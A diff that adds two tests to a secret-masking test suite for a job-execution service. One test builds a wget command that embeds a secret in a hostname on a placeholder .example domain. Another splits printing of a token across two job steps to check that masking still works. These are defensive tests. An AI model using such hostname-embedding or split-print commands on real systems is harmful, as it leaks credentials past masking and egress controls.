@@ -222,6 +222,61 @@ describe("secret", () => {
     expect(exposedIn(texts, values)).toEqual([]);
   });
 
+  test("a secret in the name of a host that a command asks for is in no result, log or audit", async ({
+    fleet,
+    gateways,
+  }) => {
+    const { worker, berth } = await keyedFleet(fleet);
+    const token = randomBytes(10).toString("hex");
+    const mixed = `Upper${token.slice(0, 12)}Case`;
+    await berth.secrets.set("acme", "HOST_KEY", token);
+    await berth.secrets.set("acme", "MIXED_KEY", mixed);
+    await berth.profiles.set("profile.default", { passthroughEnv: ["GH_TOKEN"], egress: ["127.0.0.1:9"] });
+    const gateway = await gateways.start(keyed);
+    const asks = (name: string) => `wget -q -O- "http://$${name}.example/" 2>&1`;
+    const result = await berth.tenant("acme").exec(`${asks("HOST_KEY")}; ${asks("MIXED_KEY")}; true`);
+    expect(result.egress?.hosts).toMatchObject([{ denied: 1 }, { denied: 1 }]);
+    await expect
+      .poll(async () => JSON.stringify((await gateway.call("GET", "/v1/audit/egress?tenant=acme")).body))
+      .toContain(".example");
+    await worker.stopped(30_000);
+    const texts = {
+      result: JSON.stringify(result),
+      audit: JSON.stringify((await gateway.call("GET", "/v1/audit/egress?tenant=acme")).body),
+      worker: worker.log,
+      ...(await redisDump(fleet)),
+    };
+    expect(exposedIn(texts, [token, mixed])).toEqual([]);
+    // The proxy names hosts in lower case. In output that is not a form of the value that is masked.
+    const { audit, worker: log } = texts;
+    const lower = mixed.toLowerCase();
+    expect(exposedIn({ audit, log, use: JSON.stringify(result.egress) }, [lower])).toEqual([]);
+  });
+
+  test("a secret that one step of a job begins to print and the next one ends is in no text of both", async ({
+    fleet,
+  }) => {
+    const { berth } = await keyedFleet(fleet);
+    const exec = (command: string) => ({ kind: "exec" as const, command });
+    const job = await berth
+      .tenant("acme")
+      .steps(
+        [
+          exec(`printf %s "\${OWN_TOKEN%????????}"`),
+          exec(`printf %s "\${OWN_TOKEN#"\${OWN_TOKEN%????????}"}" >&2`),
+        ],
+        { secrets: { OWN_TOKEN: own } },
+      )
+      .enqueued();
+    const output: Buffer[] = [];
+    for await (const event of job.events())
+      if (event.type === "stdout" || event.type === "stderr") output.push(Buffer.from(event.bytes));
+    const text = Buffer.concat(output).toString();
+    expect(text).toHaveLength(own.length);
+    expect(text).toContain("********");
+    expect(text).not.toContain(own);
+  });
+
   test("a secret that a set-up command prints is masked in the job's end, in Redis and in logs", async ({
     fleet,
   }) => {
